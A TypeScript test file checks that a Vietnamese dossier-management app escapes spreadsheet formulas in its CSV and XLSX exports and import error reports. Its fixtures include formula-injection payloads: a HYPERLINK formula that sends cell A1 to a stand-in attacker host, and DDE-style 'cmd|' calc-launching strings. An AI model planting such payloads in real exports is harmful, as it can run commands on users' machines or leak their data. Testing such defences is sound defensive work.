/**
 * CSV and XLSX that the project writes neutralise cells a spreadsheet would run as a formula
 * (issue 12 item 7): the dossier export, the Mẫu 07 book, the report tables and the import
 * error report (CSV and XLSX), each written with such text and read back with exceljs or
 * csv-parse: the text comes back with a leading apostrophe, as a string, never a formula;
 * phone numbers and negative numbers stay as they were. Runs on PGlite and PostgreSQL.
 */
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { forEachDriver } from '../support/db.ts';
import { ACCOUNTS, CITY, createTestApp, receptionBody, WARD, type Session, type TestApp } from '../support/api.ts';
import { writeErrorReportCsv, writeErrorReportXlsx } from '../../src/features/imports/error-report.ts';
import { createImportJob, insertRejections } from '../../src/features/imports/imports.store.ts';

const NAME = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")';
const ADDRESS = "+cmd|' /C calc'!A0";

/** Every cell of every sheet: its value and whether exceljs read a formula. */
async function cellsOf(bytes: Buffer): Promise<Array<{ value: unknown; formula: boolean }>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: Array<{ value: unknown; formula: boolean }> = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push({ value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula }))));
  return cells;
}

function collect(write: (out: PassThrough) => Promise<unknown>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise<void>((resolve) => out.on('end', () => resolve()));
  return write(out).then(async () => {
    if (!out.writableEnded) out.end();
    await ended;
    return Buffer.concat(chunks);
  });
}

forEachDriver('spreadsheet cells that look like formulas', (getDb) => {
  let t: TestApp;
  let counter: Session;
  beforeAll(async () => {
    t = await createTestApp(getDb());
    counter = await t.sessionFor(ACCOUNTS.counter.username);
    const received = await counter.post('/api/dossiers', receptionBody({ applicant: { kind: 'individual', name: NAME, idNumber: '031190004567', phone: '+84912345678', address: ADDRESS } }));
    expect(received.statusCode, received.body).toBe(201);
  });
  afterAll(async () => {
    await t.close();
  });

  it('neutralises them in the dossier export and the Mẫu 07 book, keeping numbers', async () => {
    const exported = await counter.get('/api/dossiers/export.xlsx');
    expect(exported.statusCode).toBe(200);
    const cells = await cellsOf(exported.rawPayload);
    expect(cells.some((c) => c.formula)).toBe(false);
    expect(cells.map((c) => c.value)).toContain(`'${NAME}`);
    expect(cells.map((c) => c.value)).not.toContain(NAME);
    expect(cells.map((c) => c.value)).toContain(1); // the row number stays a number

    const book = await counter.get(`/api/forms/mau-07?unit=${encodeURIComponent(WARD)}&from=2026-11-01&to=2026-11-30&format=xlsx`);
    expect(book.statusCode).toBe(200);
    const values = (await cellsOf(book.rawPayload)).map((c) => String(c.value));
    expect(values).toContain(`'${NAME}`);
    expect(values.some((v) => v.startsWith(`'${ADDRESS}`) && v.includes('+84912345678'))).toBe(true);
  });

  it('neutralises names from the database in the report tables', async () => {
    const admin = await t.sessionFor(ACCOUNTS.admin.username);
    const unit = await admin.post('/api/units', { code: '000.09.24.H24', name: '@SUM(1+1)*cmd|calc', kind: 'ward', parentCode: CITY });
    expect(unit.statusCode, unit.body).toBe(201);
    const supervisor = await t.sessionFor(ACCOUNTS.supervisor.username);
    const report = await supervisor.get(`/api/reports/xlsx?unit=${encodeURIComponent(CITY)}&from=2026-11-01&to=2026-11-30`);
    expect(report.statusCode, report.body).toBe(200);
    const cells = await cellsOf(report.rawPayload);
    expect(cells.some((c) => c.formula)).toBe(false);
    expect(cells.map((c) => c.value)).toContain("'@SUM(1+1)*cmd|calc");
  });

  it('neutralises them in the import error report, CSV and XLSX', async () => {
    const job = await createImportJob(t.ctx.db, { source: 'thu-nghiem', kind: 'file', fileName: 'ho-so.csv' });
    await insertRejections(t.ctx.db, job.id, [
      { row: 2, column: 'Ngày tiếp nhận', value: '=1+2', reason: 'không phải ngày' },
      { row: 3, column: 'Số điện thoại', value: '+84 912 345 678', reason: 'thiếu người nộp' },
      { row: 4, column: '-Cột lạ', value: '-12', reason: '@không rõ' },
    ]);
    const csv = parse(await collect((out) => writeErrorReportCsv(t.ctx.db, job.id, out)), { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(csv).toEqual([
      { Dòng: '2', Cột: 'Ngày tiếp nhận', 'Giá trị': "'=1+2", 'Lý do': 'không phải ngày' },
      { Dòng: '3', Cột: 'Số điện thoại', 'Giá trị': '+84 912 345 678', 'Lý do': 'thiếu người nộp' },
      { Dòng: '4', Cột: "'-Cột lạ", 'Giá trị': '-12', 'Lý do': "'@không rõ" },
    ]);
    const cells = await cellsOf(await collect((out) => writeErrorReportXlsx(t.ctx.db, job.id, out)));
    expect(cells.some((c) => c.formula)).toBe(false);
    expect(cells.map((c) => c.value)).toEqual(['Dòng', 'Cột', 'Giá trị', 'Lý do', 2, 'Ngày tiếp nhận', "'=1+2", 'không phải ngày', 3, 'Số điện thoại', '+84 912 345 678', 'thiếu người nộp', 4, "'-Cột lạ", '-12', "'@không rõ"]);
  });
});
